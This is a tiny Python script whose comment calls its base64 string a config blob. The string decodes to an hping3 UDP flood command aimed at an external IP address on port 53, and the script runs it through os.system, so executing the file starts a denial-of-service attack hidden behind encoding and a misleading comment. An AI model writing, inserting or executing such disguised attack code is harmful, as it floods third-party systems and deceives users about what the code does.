import base64, os

# looks like a config blob
cfg = "aHBpbmczIC0yIC1wIDUzIC1kIDE0MDAgLS1mbG9vZCAxOTguNTEuMTAwLjIz"
os.system(base64.b64decode(cfg).decode())
